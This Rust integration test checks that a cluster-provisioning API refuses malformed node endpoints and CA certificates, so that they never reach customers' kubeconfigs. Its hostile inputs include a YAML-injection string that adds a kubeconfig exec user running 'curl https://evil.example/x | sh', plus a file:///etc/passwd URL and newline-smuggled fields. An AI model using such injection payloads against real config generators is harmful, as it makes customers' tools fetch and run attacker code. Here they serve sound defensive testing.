//! What agents report as a ready node's endpoints reaches the customer's kubeconfig and the
//! other nodes' bootstraps, so only addresses are taken: anything else is refused whole with
//! `invalid_endpoint`, and the node and its cluster stay as they were.

use iocloud_tests::{
    Backend, Fleet, agent_report, assignment, cluster, current_nodes, fleet, frankfurt,
    on_both_engines, pass_node_test, ready_node, wait_status,
};
use serde_json::{Value, json};

on_both_engines!(an_endpoint_that_is_not_an_address_is_refused_and_changes_nothing);

async fn an_endpoint_that_is_not_an_address_is_refused_and_changes_nothing(b: Backend) {
    let Fleet {
        app,
        customer: s,
        devices,
        ..
    } = fleet(b, frankfurt(2), false, |_| {}).await;
    let created = app
        .post(
            "/v1/clusters",
            Some(&s.access),
            json!({"name": "k", "kind": "kubernetes", "gpu_model": "h100-sxm", "gpu_count": 16,
                   "gpus_per_node": 8, "duration_hours": 1}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text);
    let id = created.body["id"].as_str().unwrap().to_string();
    let node_of = |c: &Value, role: &str| -> (String, String) {
        let n = current_nodes(c)
            .into_iter()
            .find(|n| n["role"] == role)
            .unwrap_or_else(|| panic!("no {role} in {c:#}"));
        (
            n["id"].as_str().unwrap().into(),
            n["device_id"].as_str().unwrap().into(),
        )
    };
    let device = |id: &str| devices.iter().find(|d| d.id == id).unwrap();
    let (cp, cp_device) = node_of(&cluster(&app, &s, &id).await, "control_plane");
    let started = agent_report(&app, device(&cp_device), &cp, json!({"status": "starting"})).await;
    assert!(started.status.is_success(), "{}", started.text);
    let before = cluster(&app, &s, &id).await;

    let hostile = "https://x:6443\n- name: ops\n  user:\n    exec: {command: sh, args: [-c, 'curl https://evil.example/x | sh']}\ncurrent-context: ops";
    for endpoints in [
        json!({"api_server": hostile}),
        json!({"api_server": "https://x:6443 #"}),
        json!({"api_server": "file:///etc/passwd"}),
        json!({"api_server": "10.0.0.1"}),
        json!({"api_server": 6443}),
        json!({"api_server": "https://10.0.0.1:6443", "ops\nuser": "10.0.0.1:1"}),
        json!({"api_server": format!("https://{}.example:6443", "a".repeat(300))}),
    ] {
        let refused = agent_report(
            &app,
            device(&cp_device),
            &cp,
            json!({"status": "ready", "endpoints": endpoints}),
        )
        .await;
        refused.assert_problem(422, "invalid_endpoint");
        assert_eq!(refused.body["field"], "endpoints", "{}", refused.text);
        let detail = refused.body["detail"].as_str().unwrap();
        assert!(!detail.contains('\n'), "quoted escaped: {detail}");
    }
    let after = cluster(&app, &s, &id).await;
    assert_eq!(after["resource_version"], before["resource_version"]);
    assert_eq!(after["status"], "provisioning");
    assert_eq!(after["nodes"], before["nodes"], "no node moved");
    assert_eq!(after["events"], before["events"]);
    assert_eq!(
        app.count(
            "SELECT COUNT(*) FROM node_assignments WHERE endpoints IS NOT NULL OR status = 'ready'"
        )
        .await,
        0,
        "nothing of the refused reports was kept"
    );

    // A certificate authority that is not PEM certificates is refused the same way.
    for ca in [
        "not a certificate",
        "-----BEGIN CERTIFICATE-----\nbm90IGRlcg==\n-----END CERTIFICATE-----\n",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\nusers: []\n",
    ] {
        let refused = agent_report(
            &app,
            device(&cp_device),
            &cp,
            json!({"status": "ready", "endpoints": {"api_server": "https://10.0.0.1:6443"}, "ca_certificate": ca}),
        )
        .await;
        refused.assert_problem(422, "validation_failed");
        assert_eq!(refused.body["field"], "ca_certificate", "{}", refused.text);
    }
    assert_eq!(
        app.count("SELECT COUNT(*) FROM node_assignments WHERE status = 'ready' OR ca_certificate IS NOT NULL")
            .await,
        0
    );

    // Good endpoints are taken: the agent joins the control plane at its address, and the
    // customer's kubeconfig names it and trusts the authority the control plane reported.
    // 45 bytes: 60 characters of base64, one line, as the server writes it back.
    let der: Vec<u8> = std::iter::once(0x30).chain(1..=44u8).collect();
    let ca = format!(
        "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n",
        base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &der)
    );
    pass_node_test(&app, device(&cp_device), &cp).await;
    let ready = agent_report(
        &app,
        device(&cp_device),
        &cp,
        json!({"status": "ready", "endpoints": {"api_server": "https://10.0.0.1:6443"}, "ca_certificate": ca}),
    )
    .await;
    assert_eq!(ready.status, 204, "{}", ready.text);
    let c = cluster(&app, &s, &id).await;
    let (agent, agent_device) = node_of(&c, "agent");
    // The agent's node as its agent is handed it (no simulator runs here to take it first),
    // once the control plane's readiness has assigned it.
    let joined = assignment(&app, device(&agent_device), &agent).await["bootstrap"].clone();
    assert_eq!(joined["leader_address"], "https://10.0.0.1:6443");
    let started = agent_report(
        &app,
        device(&agent_device),
        &agent,
        json!({"status": "starting"}),
    )
    .await;
    assert!(started.status.is_success(), "{}", started.text);
    let ready = ready_node(
        &app,
        device(&agent_device),
        &agent,
        json!({"kubelet": "[2001:db8::2]:10250"}),
    )
    .await;
    assert!(ready.status.is_success(), "{}", ready.text);
    let running = wait_status(&app, &s, &id, "running").await;
    assert_eq!(running["connection"]["api_server"], "https://10.0.0.1:6443");
    let credentials = app
        .get(&format!("/v1/clusters/{id}/credentials"), &s.access)
        .await;
    assert_eq!(credentials.status, 200, "{}", credentials.text);
    let config = credentials.body["kubeconfig"].as_str().unwrap();
    let config: serde_yaml::Value = serde_yaml::from_str(config).unwrap();
    for list in ["clusters", "users", "contexts"] {
        assert_eq!(config[list].as_sequence().unwrap().len(), 1, "{config:?}");
    }
    assert_eq!(
        config["clusters"][0]["cluster"]["server"],
        "https://10.0.0.1:6443"
    );
    let trusted = config["clusters"][0]["cluster"]["certificate-authority-data"]
        .as_str()
        .unwrap();
    let trusted =
        base64::Engine::decode(&base64::engine::general_purpose::STANDARD, trusted).unwrap();
    assert_eq!(String::from_utf8(trusted).unwrap(), ca);
    assert!(
        config["clusters"][0]["cluster"]
            .get("insecure-skip-tls-verify")
            .is_none()
    );
    assert_eq!(running["connection"]["certificate_authority"], ca.as_str());
    assert_eq!(config["current-context"], "k");
}
